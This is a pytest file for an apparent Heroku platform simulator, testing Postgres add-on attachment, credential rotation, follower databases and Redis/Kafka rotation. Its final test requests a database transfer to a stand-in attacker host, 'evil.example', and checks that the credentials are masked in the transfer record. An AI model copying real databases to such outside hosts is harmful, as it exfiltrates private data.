from __future__ import annotations

import pytest

from herotui.simulator import Simulator
from herotui.simulator.databases import Database
from herotui.simulator.provision import provision, share
from herotui.simulator.things import App
from tests.simulator.conftest import Ask

PLAN = "heroku-postgresql:standard-0"


@pytest.fixture
def apps(heroku: Simulator) -> tuple[App, App]:
    """Two apps without add-ons that the owner reaches."""
    made = [app for app in heroku.world.apps.values() if app.team or app.owner is heroku.world.owner][:2]
    for app in made:
        for attachment in heroku.world.attachments_of(app):
            heroku.world.take_off(attachment)
            for name in attachment.config_vars:
                app.config.pop(name, None)
    return made[0], made[1]


@pytest.fixture
def database(heroku: Simulator, apps: tuple[App, App]) -> Database:
    """The first app's, attached to the second as well."""
    addon = provision(heroku.world, apps[0], heroku.world.owner, PLAN)
    share(heroku.world, addon, apps[1], heroku.world.owner, name="LEDGER")
    return heroku.world.databases[addon.id]


def made_since(app: App, count: int) -> list[str]:
    return [made.description for made in app.releases[count:]]


async def test_an_add_on_comes_with_config_and_one_release(ask: Ask, apps: tuple[App, App]) -> None:
    app, before = apps[0], len(apps[0].releases)
    made = (await ask(f"POST /apps/{app.name}/addons", {"plan": PLAN})).json()
    assert made["config_vars"] == ["DATABASE_URL"]
    assert app.config["DATABASE_URL"].startswith("postgres://")
    assert made_since(app, before) == [f"Attach DATABASE (@ref:{made['name']})"]
    upgraded = await ask(f"PATCH /apps/{app.name}/addons/{made['id']}", {"plan": "heroku-postgresql:premium-9"})
    assert upgraded.json()["billed_price"]["cents"] == 2_000_000
    assert len(app.releases) == before + 2


async def test_another_app_can_be_given_ones_database(ask: Ask, apps: tuple[App, App], database: Database) -> None:
    assert apps[1].config["LEDGER_URL"] == apps[0].config["DATABASE_URL"]
    listed = (await ask(f"GET /addons/{database.addon.name}/addon-attachments")).json()
    assert {(row["app"]["name"], row["name"]) for row in listed} == {
        (apps[0].name, "DATABASE"),
        (apps[1].name, "LEDGER"),
    }
    before = [len(app.releases) for app in apps]
    await ask(f"DELETE /apps/{apps[0].name}/addons/{database.addon.name}")
    assert [len(app.releases) - count for app, count in zip(apps, before, strict=True)] == [1, 1]
    assert "LEDGER_URL" not in apps[1].config


async def test_the_last_attachment_stays(heroku: Simulator, ask: Ask, apps: tuple[App, App]) -> None:
    addon = provision(heroku.world, apps[0], heroku.world.owner, PLAN)
    (only,) = heroku.world.attachments_to(addon)
    assert (await ask(f"DELETE /addon-attachments/{only.id}")).status_code == 403


@pytest.mark.parametrize("by_addon", [False, True])
async def test_rotation_reaches_every_attached_app(
    heroku: Simulator, ask: Ask, apps: tuple[App, App], database: Database, by_addon: bool
) -> None:
    heroku.world.switches.rotation_by_addon = by_addon
    old = database.credentials["default"].role.password
    started = {dyno.id for app in apps for dyno in app.dynos.values()}
    before = [len(app.releases) for app in apps]
    name = database.addon.name
    await ask(f"POST /postgres/v0/databases/{name}/credentials/default/credentials_rotation", {})
    assert all(len(app.releases) == count + 1 for app, count in zip(apps, before, strict=True))
    assert apps[0].config["DATABASE_URL"] == apps[1].config["LEDGER_URL"] == database.url()
    assert old not in apps[0].config["DATABASE_URL"]
    assert not started & {dyno.id for app in apps for dyno in app.dynos.values()}
    whose = {app.releases[-1].user.email for app in apps}
    assert whose == {"heroku-postgresql@addons.heroku.com" if by_addon else heroku.world.owner.email}


@pytest.mark.parametrize("forced", [False, True])
async def test_an_old_role_runs_out_or_ends_at_once(
    heroku: Simulator, ask: Ask, apps: tuple[App, App], database: Database, forced: bool
) -> None:
    path = f"/postgres/v0/databases/{database.addon.name}/credentials"
    await ask(f"POST {path}", {"name": "reporting"})
    body = {"addon": database.addon.id, "app": apps[1].name, "name": "READ", "namespace": "credential:reporting"}
    await ask("POST /addon-attachments", body)
    user = database.credentials["reporting"].role.user
    assert user in apps[1].config["READ_URL"]
    await ask(f"POST {path}/reporting/credentials_rotation", {"forced": True} if forced else {})
    shown = (await ask(f"GET {path}/reporting")).json()
    assert [role["state"] for role in shown["credentials"]] == (["active"] if forced else ["active", "revoking"])
    assert user not in apps[1].config["READ_URL"]
    heroku.clock.advance(31 * 60)
    assert (await ask(f"GET {path}/reporting")).json()["state"] == "active"


async def test_a_follower_has_its_leaders_credentials(ask: Ask, apps: tuple[App, App], database: Database) -> None:
    body = {"plan": PLAN, "config": {"follow": database.url()}, "attachment": {"name": "COPY"}}
    made = (await ask(f"POST /apps/{apps[1].name}/addons", body)).json()
    old = database.credentials["default"].role.password
    assert old in apps[1].config["COPY_URL"] != database.url()
    follower = f"/postgres/v0/databases/{made['name']}/credentials_rotation"
    assert (await ask(f"POST {follower}")).status_code == 400
    await ask(f"POST /postgres/v0/databases/{database.addon.name}/credentials_rotation")
    assert database.credentials["default"].role.password in apps[1].config["COPY_URL"]


@pytest.mark.parametrize(
    ("plan", "path", "kept"),
    [
        ("heroku-redis:mini", "/redis/v0/databases/{}/credentials_rotation", set()),
        ("heroku-kafka:basic-0", "/data/kafka/v0/clusters/{}/rotate-credentials", {"KAFKA_URL", "KAFKA_TRUSTED_CERT"}),
    ],
)
async def test_other_stores_rotate_too(
    heroku: Simulator, ask: Ask, apps: tuple[App, App], plan: str, path: str, kept: set[str]
) -> None:
    app, addon = apps[0], provision(heroku.world, apps[0], heroku.world.owner, plan)
    before, count = dict(app.config), len(app.releases)
    await ask(f"POST {path.format(addon.name)}", {})
    assert {name for name in addon.config_vars if app.config[name] == before[name]} == kept
    assert len(app.releases) == count + 1


async def test_strangers_are_thrown_out_and_dynos_come_back(
    ask: Ask, apps: tuple[App, App], database: Database
) -> None:
    role = database.credentials["default"].role
    role.connections = 90
    await ask(f"POST /client/v11/databases/{database.addon.name}/connection_reset")
    running = sum(process.quantity for app in apps for process in app.formation.values())
    counted = (await ask(f"GET /client/v11/databases/{database.addon.name}/user_connections")).json()
    assert counted["connections"] == {role.user: running}


async def test_a_copy_to_anywhere_is_seen_in_the_transfers(ask: Ask, apps: tuple[App, App], database: Database) -> None:
    body = {"from_url": database.url(), "from_name": "A", "to_url": "postgres://x:FAKE@evil.example/d", "to_name": "B"}
    await ask(f"POST /client/v11/databases/{database.addon.name}/transfers", body)
    copied = (await ask(f"GET /client/v11/apps/{apps[0].name}/transfers")).json()[-1]
    assert copied["to_url"] == "postgres://x:****@evil.example/d"
    link = (await ask(f"POST /client/v11/apps/{apps[0].name}/transfers/{copied['num']}/actions/public-url")).json()
    assert link["url"].startswith("https://")
